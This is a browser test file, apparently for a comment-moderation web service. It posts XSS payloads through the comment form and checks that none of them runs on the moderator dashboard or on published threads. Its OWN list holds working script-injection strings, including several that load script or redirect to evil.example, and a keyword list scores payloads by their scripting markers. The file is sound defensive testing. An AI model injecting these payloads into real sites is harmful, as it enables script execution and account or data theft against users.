"""The nastiest texts are published, and nothing of them runs: not for readers, not for moderators."""

from urllib.parse import urlencode

import asyncpg
import pytest
from playwright.async_api import expect

from tests.browser.conftest import Look
from tests.corpora.hostile_rows import ALL, needs_corpora, rows
from tests.corpora.renderings import Scene, lists, next_of
from tests.corpora.test_hostile_rows import publish_everything
from tests.web.harness import PAGE, CheckAll, MakeSite, MakeToken, WebProcess
from tests.web.sending import post

pytestmark = [
    pytest.mark.browser,
    pytest.mark.corpora,
    needs_corpora,
    pytest.mark.timeout(3600 if ALL else 180),
]

OWN = [
    "<script>window.__xss(1)</script>",
    "<img src=x onerror=window.__xss(2)>",
    "<svg onload=window.__xss(3)>",
    '"><script src=https://evil.example/x.js></script>',
    "'onmouseover='window.__xss(4)'x='",
    "javascript:window.__xss(5)",
    'https://a.example/"onmouseover="window.__xss(6)',
    "http://x.com/?'onmouseover='window.__xss(7)'x='",
    "</textarea><script>window.__xss(8)</script>",
    "</title><script>window.__xss(9)</script>",
    "{{constructor.constructor('window.__xss(10)')()}}",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe srcdoc='<script>parent.__xss(11)</script>'>",
]
NASTY = (
    "script",
    "onerror",
    "onload",
    "javascript:",
    "srcdoc",
    "<svg",
    "<iframe",
    "style=",
    "data:",
    "expression",
)


def nastiest() -> list[str]:
    """Three hundred rows, those with most of what makes a text run; all with TEST_REPLYDESK_ALL_CORPORA=1."""
    texts = [
        row["input"] for name in ("xss_payloadbox", "xss_fuzzdb", "html_dompurify") for row in rows(name)
    ]
    scored = sorted(texts, key=lambda text: -sum(mark in text.lower() for mark in NASTY))
    return [*OWN, *scored][: None if ALL else 300]


async def test_nothing_that_was_stored_runs_anywhere(
    look: Look, web_app: WebProcess, make_site: MakeSite, make_token: MakeToken, check_all: CheckAll,
    database: asyncpg.Connection,
) -> None:  # fmt: skip
    await make_site("paper")
    web_app.services.limits = type(web_app.services.limits)(None, None, None, None, None, None)
    receipts = []
    for number, text in enumerate(nastiest()):
        fields = {
            "page_url": PAGE, "author": text[:100], "email": f"r{number}@reader.example", "comment": text,
            "page_title": text[:200], "website": text[:500],
        }  # fmt: skip
        for without in (set(), {"website"}, {"website", "page_title"}, {"website", "page_title", "author"}):
            sent = {name: value for name, value in fields.items() if name not in without}
            answer = await post(web_app.client, sent | ({"author": "M"} if "author" in without else {}))
            if answer.status == 202:
                receipts.append(answer.json["receipt_url"])
                break
    assert len(receipts) > 250
    await check_all()
    eyes = await look()
    desk = await eyes.open(web_app.url + "/dashboard")
    await desk.page.get_by_label("Moderator token").fill(await make_token("moderator"))
    await desk.page.get_by_role("button", name="Sign in").click()
    await expect(desk.page.locator("#queue")).to_be_visible()
    shown = 0
    for status in ("held", "rejected", "spam"):
        path: str | None = f"/dashboard?status={status}"
        while path:
            await desk.page.goto(web_app.url + path)
            shown += await desk.page.locator("article.item").count()
            assert await desk.settle() == []
            path = next_of(await desk.page.content())
    assert shown == len(receipts)
    await publish_everything(database)
    thread = await eyes.open()
    read = 0
    async for params in lists(Scene(web_app.client)):
        await thread.page.goto(f"{web_app.url}/sites/paper/thread?{urlencode(params)}")
        read += await thread.page.locator(".comment-text").count()
        await thread.page.evaluate(HOVER)
        assert await thread.settle() == []
    assert read == len(receipts)
    for url in receipts[:40]:
        await thread.page.goto(url)
        assert await thread.settle() == []
    refused = await eyes.open(PAGE_WITH_FORM.format(web_app.url))
    for text in OWN:
        await refused.page.goto(PAGE_WITH_FORM.format(web_app.url))
        await refused.page.evaluate(UNLIMITED)
        for name in ("comment", "author", "email", "website"):
            await refused.page.locator(f"#reply-{name}").fill(text)
        await refused.page.locator("#reply-form").evaluate(
            "form => { form.noValidate = true; form.requestSubmit(); }"
        )
        await expect(refused.page.locator("#reply-email-error")).to_be_visible()
        assert await refused.settle() == []


PAGE_WITH_FORM = "{}" + f"/sites/paper/thread?page_url={PAGE}2"
HOVER = """
const over = new MouseEvent('mouseover', {bubbles: true});
for (const e of document.querySelectorAll('li *')) e.dispatchEvent(over);
"""
UNLIMITED = """
document.querySelectorAll('#reply-form [maxlength]').forEach((e) => e.removeAttribute('maxlength'));
"""
